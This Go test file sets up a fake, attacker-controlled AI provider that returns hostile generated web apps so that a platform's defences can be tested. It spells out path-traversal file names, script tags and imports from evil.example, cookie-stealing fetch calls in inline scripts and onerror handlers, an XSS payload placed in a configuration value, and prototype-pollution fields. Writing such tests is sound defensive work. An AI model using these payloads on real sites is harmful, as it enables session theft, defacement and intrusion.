package owasp_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"sync"
)

// fakeAI is an OpenAI-compatible server under the attacker's control: the
// platform's AI provider. Code generation answers per scenario, chosen by
// the project's name in the prompt ("owasp ai <scenario> …"): hostile files
// (path traversal, absolute paths, remote scripts, oversized output, …) or,
// by default, the starting point it was sent (the scaffold rendered with
// the configuration), as a model that changes nothing would. Chat answers
// with a configuration proposal chosen by the user's message.
type fakeAI struct {
	*httptest.Server
	mu     sync.Mutex
	served map[string]int // scenario → code generations answered
}

func newFakeAI() *fakeAI {
	f := &fakeAI{served: map[string]int{}}
	f.Server = httptest.NewServer(http.HandlerFunc(f.handle))
	return f
}

func (f *fakeAI) count(scenario string) int {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.served[scenario]
}

var scenarioName = regexp.MustCompile(`Project: owasp ai ([a-z0-9-]+)`)

const startingPoint = "Starting point: the template rendered with this configuration.\n"

// evilMarker names the files a traversal tries to write outside the app;
// the suite looks for it on disk afterwards.
const evilMarker = "owasp-escaped-marker.txt"

type aiFile struct {
	Path    string `json:"path"`
	Content string `json:"content"`
}

func (f *fakeAI) handle(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path != "/v1/chat/completions" || r.Header.Get("Authorization") != "Bearer test-key" {
		http.Error(w, `{"error":{"message":"not found","type":"invalid_request_error"}}`, http.StatusNotFound)
		return
	}
	var req struct {
		ResponseFormat json.RawMessage `json:"response_format"`
		Messages       []struct {
			Role    string `json:"role"`
			Content string `json:"content"`
		} `json:"messages"`
	}
	_ = json.NewDecoder(r.Body).Decode(&req)
	last := ""
	for _, m := range req.Messages {
		if m.Role == "user" {
			last = m.Content
		}
	}
	w.Header().Set("Content-Type", "text/event-stream")
	if strings.Contains(string(req.ResponseFormat), "json_schema") {
		scenario := "echo"
		if m := scenarioName.FindStringSubmatch(last); m != nil {
			scenario = m[1]
		}
		f.mu.Lock()
		f.served[scenario]++
		f.mu.Unlock()
		f.codegen(w, scenario, last)
		return
	}
	f.chat(w, last)
}

// codegen streams the scenario's answer.
func (f *fakeAI) codegen(w http.ResponseWriter, scenario, prompt string) {
	var start struct {
		Files []aiFile `json:"files"`
	}
	if i := strings.Index(prompt, startingPoint); i >= 0 {
		_ = json.Unmarshal([]byte(prompt[i+len(startingPoint):]), &start)
	}
	files := start.Files
	page := func(body string) []aiFile {
		out := []aiFile{{Path: "index.html", Content: "<!doctype html><html><head><title>x</title></head><body>" + body + "</body></html>"}}
		for _, f := range files {
			if f.Path != "index.html" {
				out = append(out, f)
			}
		}
		return out
	}
	var text string
	switch scenario {
	case "traversal":
		files = append(files, aiFile{Path: "../../" + evilMarker, Content: "escaped"})
	case "deep-traversal":
		files = append(files, aiFile{Path: "assets/../../../../../../tmp/" + evilMarker, Content: "escaped"})
	case "absolute":
		files = append(files, aiFile{Path: "/tmp/" + evilMarker, Content: "escaped"})
	case "backslash":
		files = append(files, aiFile{Path: `..\..\` + evilMarker, Content: "escaped"})
	case "overwrite-other-app":
		files = append(files, aiFile{Path: "../owasp-ai-victim/index.html", Content: "<!doctype html><p>defaced</p>"})
	case "nul-byte":
		files = append(files, aiFile{Path: "index.html\x00.png", Content: "x"})
	case "duplicate":
		files = append(files, aiFile{Path: "index.html", Content: "<!doctype html><p>second</p>"})
	case "dotfile":
		files = append(files, aiFile{Path: ".htaccess", Content: "Redirect / https://evil.example/"})
	case "remote-script":
		files = page(`<script src="//evil.example/x.js"></script>`)
	case "remote-script-metadata":
		files = page(`<script src="http://169.254.169.254/latest/meta-data/x.js"></script>`)
	case "other-app-script":
		files = page(`<script src="../owasp-ai-victim/app.js"></script>`)
	case "absolute-other-app":
		files = page(`<script src="/owasp-ai-victim/app.js"></script>`)
	case "inline-handler":
		files = page(`<img src="logo.png" onerror="fetch('//evil.example/?c='+document.cookie)">`)
	case "javascript-url":
		files = page(`<a href="javascript:alert(document.domain)">x</a>`)
	case "meta-refresh":
		files = page(`<meta http-equiv="refresh" content="0; url=//evil.example/">`)
	case "inline-script":
		files = page(`<script>fetch("//evil.example/?c="+document.cookie)</script>`)
	case "css-import":
		files = append(page(`<link rel="stylesheet" href="x.css">`), aiFile{Path: "x.css", Content: `@import url("//evil.example/x.css");`})
	case "module-import":
		files = append(page(`<script type="module" src="m.js"></script>`), aiFile{Path: "m.js", Content: `import "//evil.example/x.js";`})
	case "oversized-file":
		files = page(strings.Repeat("A", 2<<20))
	case "too-many-files":
		for i := range 300 {
			files = append(files, aiFile{Path: fmt.Sprintf("f%03d.css", i), Content: "p{}"})
		}
	case "oversized-output":
		// Eleven 1 MiB files: each within the per-file bound, more than the app may hold.
		for i := range 11 {
			files = append(files, aiFile{Path: fmt.Sprintf("big%02d.css", i), Content: "/*" + strings.Repeat("A", 1<<20-8) + "*/"})
		}
	case "runaway-output":
		// A stream that does not stop: 48 MiB of one file.
		text = `{"files":[{"path":"index.html","content":"` + strings.Repeat("A", 48<<20) + `"}]}`
	case "not-json":
		text = "I am sorry, I cannot generate that application."
	case "no-files":
		text = `{"files":[]}`
	}
	if text == "" {
		raw, _ := json.Marshal(map[string]any{"files": files})
		text = string(raw)
	}
	const chunk = 64 << 10
	for i := 0; i < len(text); i += chunk {
		writeChunk(w, map[string]any{"content": text[i:min(i+chunk, len(text))]}, "")
	}
	writeChunk(w, map[string]any{}, "stop")
	fmt.Fprintf(w, "data: %s\n\n", `{"id":"x","object":"chat.completion.chunk","created":1,"model":"fake-model","choices":[],"usage":{"prompt_tokens":1000,"completion_tokens":500,"total_tokens":1500}}`)
	fmt.Fprint(w, "data: [DONE]\n\n")
}

// Chat messages that pick the fake model's answer.
const (
	chatBurnBudget    = "owasp:burn-budget"    // reports more tokens than a day's budget
	chatProposeScript = "owasp:propose-script" // proposes a configuration value that is markup
	chatProposeBad    = "owasp:propose-bad"    // proposes fields and types the schema refuses
)

// scriptAppName is the hostile value proposed by chatProposeScript.
const scriptAppName = `</title><script src=//evil.example/x.js></script><img src=x onerror=alert(1)>`

func (f *fakeAI) chat(w http.ResponseWriter, last string) {
	patch := map[string]any{"appName": "Fake AI Name"}
	tokens := 137
	switch {
	case strings.Contains(last, chatBurnBudget):
		tokens = 5_000_000
	case strings.Contains(last, chatProposeScript):
		patch = map[string]any{"appName": scriptAppName}
	case strings.Contains(last, chatProposeBad):
		patch = map[string]any{"appName": 12, "role": "admin", "ownerId": "00000000-0000-0000-0000-000000000001", "__proto__": map[string]any{"admin": true}}
	}
	for _, word := range []string{"I ", "propose ", "a ", "change."} {
		writeChunk(w, map[string]any{"role": "assistant", "content": word}, "")
	}
	args, _ := json.Marshal(map[string]any{"patch": patch, "summary": "Change the configuration"})
	writeChunk(w, map[string]any{"tool_calls": []map[string]any{{"index": 0, "id": "call_1", "type": "function",
		"function": map[string]string{"name": "propose_configuration_change", "arguments": string(args)}}}}, "")
	writeChunk(w, map[string]any{}, "tool_calls")
	fmt.Fprintf(w, "data: {\"id\":\"x\",\"object\":\"chat.completion.chunk\",\"created\":1,\"model\":\"fake-model\",\"choices\":[],\"usage\":{\"prompt_tokens\":%d,\"completion_tokens\":17,\"total_tokens\":%d}}\n\n", tokens, tokens+17)
	fmt.Fprint(w, "data: [DONE]\n\n")
}

func writeChunk(w http.ResponseWriter, delta map[string]any, finish string) {
	choice := map[string]any{"index": 0, "delta": delta}
	if finish != "" {
		choice["finish_reason"] = finish
	}
	b, _ := json.Marshal(map[string]any{"id": "x", "object": "chat.completion.chunk", "created": 1, "model": "fake-model", "choices": []any{choice}})
	fmt.Fprintf(w, "data: %s\n\n", b)
	if fl, ok := w.(http.Flusher); ok {
		fl.Flush()
	}
}
